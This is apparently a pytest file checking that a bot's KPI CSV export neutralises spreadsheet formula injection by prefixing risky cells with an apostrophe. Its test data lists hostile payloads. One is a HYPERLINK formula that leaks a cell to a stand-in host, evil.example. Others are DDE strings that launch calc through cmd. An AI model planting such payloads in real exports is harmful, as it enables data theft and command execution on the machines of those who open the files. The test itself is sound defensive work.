"""Issue 8: lead sources like `=HYPERLINK(…)` or `@SUM(…)` went raw into `kpi … --format csv`, formulas a
spreadsheet runs when the file is opened. Every text cell that starts like a formula and is not a number
gets OWASP's leading `'`; the value is still shown, and numbers stay numbers."""
from __future__ import annotations

import csv
import io
import subprocess
import sys

import pytest

from blocks.kpi import csv_cell
from models.tables import Lead
from tests.conftest import ROOT, TOKYO_CLOCK, jst

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
           "-2+3", "=1+1", "\tsource with a tab", "\rsource with a CR", "-"]
HARMLESS = ["webinar", "-3", "-0.5", "+7", "a=b", "1e3"]


def add_mql(db, n: int, source: str, claimed_by: str | None = None) -> None:
    mql = jst(2026, 11, 24, 10)
    with db.begin() as s:
        s.add(Lead(email=f"csv{n}@example.com", email_norm=f"csv{n}@example.com", source=source, score=80,
                   attributes={}, created_at=mql, updated_at=mql, mql_at=mql,
                   claim_due=TOKYO_CLOCK.add_minutes(mql, 240), contact_due=TOKYO_CLOCK.add_minutes(mql, 540),
                   claimed_by=claimed_by, claimed_at=jst(2026, 11, 24, 10, 30) if claimed_by else None))


def test_kpi_csv_neutralises_every_formula_cell_and_keeps_the_values(db):
    for n, source in enumerate(HOSTILE + HARMLESS):
        add_mql(db, n, source, claimed_by="=cmd|'/C calc'!A0" if n == 0 else None)
    env = {"DATABASE_URL": db.url, "PATH": "/usr/bin:/bin", "TIMEZONE": "Asia/Tokyo"}
    out = subprocess.run([sys.executable, "bot.py", "kpi", "week", "2026-W48", "--at", "2026-12-01T00:00:00+09:00",
                          "--format", "csv"], cwd=ROOT, env=env, capture_output=True, timeout=120)
    assert out.returncode == 0, out.stderr.decode()
    table = list(csv.reader(io.StringIO(out.stdout.decode(), newline="")))  # bytes: a CR in a cell stays a CR
    assert table[0] == ["metric", "key", "field", "value"]
    sources = {row[1] for row in table if row[0] == "by_source"}
    assert sources == {"'" + s for s in HOSTILE} | set(HARMLESS)  # shown, behind a `'`, and nothing else changed
    assert {row[1] for row in table if row[0] == "by_rep"} == {"'=cmd|'/C calc'!A0"}
    for row in table:  # no cell a spreadsheet would run
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell in HARMLESS, row
    assert ["mqls", "", "", str(len(HOSTILE + HARMLESS))] in table  # numbers stay bare numbers
    assert ["by_source", "-3", "mqls", "1"] in table


@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("+A1", "'+A1"), ("-A1", "'-A1"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("-", "'-"), ("-inf", "'-inf"),
    ("-3", "-3"), ("-0.5", "-0.5"), ("+2", "+2"), ("1e-3", "1e-3"), ("webinar", "webinar"), ("", ""),
    (-3, -3), (-0.5, -0.5), (0, 0), (None, ""),
])
def test_one_cell(value, cell):
    assert csv_cell(value) == cell
